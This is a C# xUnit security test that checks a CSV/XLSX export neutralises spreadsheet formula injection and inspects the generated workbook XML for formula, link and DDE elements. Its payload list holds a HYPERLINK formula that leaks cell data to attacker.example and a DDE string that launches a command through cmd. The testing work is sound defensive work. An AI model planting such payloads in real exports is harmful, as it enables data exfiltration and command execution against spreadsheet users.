using System.IO.Compression;
using System.Xml.Linq;
using RetroBot.Core.CaseStudies;
using RetroBot.Tests.Catalogs;
using RetroBot.Tests.Emulator;
using RetroBot.Tests.Running;
using Xunit;

namespace RetroBot.Tests.Attacks;

/// <summary>A12. The program owner: formula in a text field of CSV or XLSX. What must happen: neutralised.</summary>
public sealed class A12Formulas(SavingStorageEmulator emulator) : Attack(emulator)
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\"=1+1", "'=1+1", "notes;=1+1", "notes;\"=1+1",
    ];

    public override Holding Holds => Holding.OwnersSeat;

    [Fact]
    public Task No_cell_is_run_by_a_spreadsheet() => MustWinNothingAsync();

    public override async Task<IReadOnlyList<string>> TryAsync(World world)
    {
        var view = new OwnersView(world);
        await view.PublishAsync(Formulas.Select((formula, number) => SampleStudies.Published(view.Team("blue"), number, title: formula, howToTry: formula, tool: Formulas[0], quarter: new Quarter(2026, 3))), Ct);

        var cells = (await view.RowsAsync(Ct)).SelectMany(row => row.Values).ToList();
        List<string> won = [.. cells.SelectMany(AsOtherCountriesRead).Where(Runs).Select(cell => $"CSV runs {cell}."), .. await InWorkbookAsync(await view.ExportAsync("xlsx", Ct))];
        // Twice in one row, and once in each as the tool.
        if (cells.Count(cell => cell.Contains("HYPERLINK", StringComparison.Ordinal)) != 2 + Formulas.Length) won.Add("The texts are not in the export: the attack looked at nothing.");
        return won;
    }

    /// <summary>A spreadsheet runs what a part names as a formula, a link, a name or a macro, and nothing that is an inline text.</summary>
    private static async Task<IReadOnlyList<string>> InWorkbookAsync(byte[] file)
    {
        List<string> won = [];
        var texts = 0;
        using var workbook = new ZipArchive(new MemoryStream(file));
        foreach (var part in workbook.Entries)
        {
            if (!part.Name.EndsWith(".xml", StringComparison.Ordinal) && !part.Name.EndsWith(".rels", StringComparison.Ordinal)) won.Add($"The workbook holds {part.FullName}.");
            await using var stream = await part.OpenAsync(Ct);
            foreach (var element in (await XDocument.LoadAsync(stream, LoadOptions.None, Ct)).Descendants())
            {
                if (element.Name.LocalName is "f" or "hyperlink" or "definedName" or "externalReference" or "ddeLink" or "oleObject" or "dataValidation" || element.Attribute("TargetMode") is not null) won.Add($"{part.FullName} holds {element}.");
                if (element.Name.LocalName != "c") continue;
                texts++;
                if (element.Attribute("t")?.Value != "inlineStr") won.Add($"A cell of {part.FullName} is no text: {element}.");
            }
        }
        if (texts < Formulas.Length * 2) won.Add("The workbook has too few cells: the attack looked at nothing.");
        return won;
    }

    /// <summary>Where lists are written with semicolons, a cell may be taken for several.</summary>
    private static IEnumerable<string> AsOtherCountriesRead(string cell) => cell.Split(';').Prepend(cell);

    private static bool Runs(string cell) => cell.TrimStart(' ', '"') is { Length: > 0 } text && "=+-@＝＋－＠\t\r\n".Contains(text[0], StringComparison.Ordinal);
}
